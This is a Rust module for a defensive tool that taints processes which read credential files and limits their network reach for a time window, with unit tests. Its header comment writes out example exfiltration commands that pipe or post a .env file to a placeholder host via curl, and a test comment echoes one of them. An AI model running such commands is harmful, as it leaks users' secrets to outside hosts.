//! Taint: a process that opened a credential file may, for
//! `taint_window_ms`, reach only the `taint_allowlist`. The taint reaches
//! the opener, its descendants started after the read, and the other
//! members of its process group — so `cat .env | curl --data-binary @- x`
//! is caught as well as `curl -d @.env x`.
//!
//! Processes are identified by pid *and* start time, so a pid reused by
//! another program is not confused with the tainted one. Times are
//! milliseconds since boot (the kernel's clock for process start times).

use std::collections::HashMap;

/// Who the taint reaches (`[context] taint_scope`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum TaintScope {
    /// The opener only.
    Process,
    /// The opener and its descendants started after the read.
    Descendants,
    /// The opener, its later descendants, and its process group (default).
    #[default]
    ProcessGroup,
}

/// What is known of a process, read from the kernel.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProcessFacts {
    /// Process id.
    pub pid: u32,
    /// Start time, ms since boot.
    pub start_ms: u64,
    /// Process group id.
    pub pgid: u32,
    /// Ancestors, parent first, as (pid, start time in ms since boot).
    pub ancestors: Vec<(u32, u64)>,
}

/// One credential read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Taint {
    /// The file that was opened.
    pub path: String,
    /// The opener's pid.
    pub pid: u32,
    /// The opener's start time (ms since boot).
    pub start_ms: u64,
    /// The opener's process group.
    pub pgid: u32,
    /// When the file was opened (ms since boot).
    pub at_ms: u64,
}

/// Recent credential reads, bounded: entries older than the window are
/// dropped as new ones arrive.
#[derive(Debug, Clone)]
pub struct TaintStore {
    window_ms: u64,
    scope: TaintScope,
    by_pid: HashMap<u32, Taint>,
    by_pgid: HashMap<u32, Taint>,
}

/// Most taints kept at once; beyond it the oldest are forgotten first only
/// after expiry, and new ones replace the oldest (a flood of opens cannot
/// grow memory without bound).
const MAX_TAINTS: usize = 65_536;

impl TaintStore {
    /// An empty store with the given window and scope.
    pub fn new(window_ms: u64, scope: TaintScope) -> Self {
        Self {
            window_ms,
            scope,
            by_pid: HashMap::new(),
            by_pgid: HashMap::new(),
        }
    }

    /// The taint window in milliseconds.
    pub fn window_ms(&self) -> u64 {
        self.window_ms
    }

    /// Records a credential read.
    pub fn record(&mut self, taint: Taint) {
        if self.by_pid.len() >= MAX_TAINTS {
            self.expire(taint.at_ms);
        }
        if self.by_pid.len() >= MAX_TAINTS
            && let Some(oldest) = self.by_pid.values().min_by_key(|t| t.at_ms).map(|t| t.pid)
        {
            self.by_pid.remove(&oldest);
        }
        if self.scope == TaintScope::ProcessGroup && taint.pgid != 0 {
            self.by_pgid.insert(taint.pgid, taint.clone());
        }
        self.by_pid.insert(taint.pid, taint);
    }

    /// Drops taints older than the window.
    pub fn expire(&mut self, now_ms: u64) {
        let w = self.window_ms;
        self.by_pid.retain(|_, t| now_ms.saturating_sub(t.at_ms) < w);
        self.by_pgid.retain(|_, t| now_ms.saturating_sub(t.at_ms) < w);
    }

    /// The taint that applies to `who` at `now_ms`, if any.
    pub fn lookup(&self, who: &ProcessFacts, now_ms: u64) -> Option<&Taint> {
        let live = |t: &&Taint| now_ms.saturating_sub(t.at_ms) < self.window_ms;
        // The opener itself (same pid and same start: not a reused pid).
        if let Some(t) = self.by_pid.get(&who.pid).filter(live)
            && t.start_ms == who.start_ms
        {
            return Some(t);
        }
        if self.scope != TaintScope::Process {
            // A descendant started after the read.
            for (pid, start) in &who.ancestors {
                if let Some(t) = self.by_pid.get(pid).filter(live)
                    && t.start_ms == *start
                    && who.start_ms >= t.at_ms.saturating_sub(CLOCK_SLACK_MS)
                {
                    return Some(t);
                }
            }
        }
        if self.scope == TaintScope::ProcessGroup
            && who.pgid != 0
            && let Some(t) = self.by_pgid.get(&who.pgid).filter(live)
        {
            return Some(t);
        }
        None
    }
}

/// Process start times have the kernel's tick granularity (10 ms).
const CLOCK_SLACK_MS: u64 = 10;

#[cfg(test)]
mod tests {
    use super::*;

    fn taint(pid: u32, start: u64, pgid: u32, at: u64) -> Taint {
        Taint {
            path: "/p/.env".into(),
            pid,
            start_ms: start,
            pgid,
            at_ms: at,
        }
    }

    fn facts(pid: u32, start: u64, pgid: u32, ancestors: &[(u32, u64)]) -> ProcessFacts {
        ProcessFacts {
            pid,
            start_ms: start,
            pgid,
            ancestors: ancestors.to_vec(),
        }
    }

    #[test]
    fn opener_is_tainted_for_the_window_only() {
        let mut s = TaintStore::new(1000, TaintScope::ProcessGroup);
        s.record(taint(10, 500, 10, 2000));
        assert!(s.lookup(&facts(10, 500, 10, &[]), 2500).is_some());
        assert!(s.lookup(&facts(10, 500, 10, &[]), 3000).is_none(), "window over");
    }

    #[test]
    fn reused_pid_is_not_tainted() {
        let mut s = TaintStore::new(1000, TaintScope::Process);
        s.record(taint(10, 500, 10, 2000));
        assert!(s.lookup(&facts(10, 2400, 99, &[]), 2500).is_none());
    }

    #[test]
    fn descendants_started_after_the_read() {
        let mut s = TaintStore::new(10_000, TaintScope::Descendants);
        s.record(taint(10, 500, 10, 2000));
        // A child started after the read is tainted...
        assert!(s.lookup(&facts(20, 2100, 20, &[(10, 500), (1, 0)]), 2500).is_some());
        // ...one started before it is not.
        assert!(s.lookup(&facts(21, 1500, 21, &[(10, 500)]), 2500).is_none());
        // A grandchild is.
        assert!(s.lookup(&facts(30, 2200, 30, &[(20, 2100), (10, 500)]), 2500).is_some());
        // An unrelated process with the opener's pgid is not, in this scope.
        assert!(s.lookup(&facts(40, 100, 10, &[(1, 0)]), 2500).is_none());
    }

    #[test]
    fn process_group_members_are_tainted_by_default() {
        let mut s = TaintStore::new(10_000, TaintScope::default());
        // `cat .env | curl`: cat (pid 10) and curl (pid 11) share group 10.
        s.record(taint(10, 500, 10, 2000));
        assert!(s.lookup(&facts(11, 490, 10, &[(5, 0)]), 2500).is_some());
        assert!(s.lookup(&facts(12, 490, 12, &[(5, 0)]), 2500).is_none());
    }

    #[test]
    fn store_is_bounded() {
        let mut s = TaintStore::new(u64::MAX, TaintScope::Process);
        for pid in 0..(MAX_TAINTS as u32 + 10) {
            s.record(taint(pid, 0, 0, u64::from(pid)));
        }
        assert!(s.by_pid.len() <= MAX_TAINTS);
    }
}
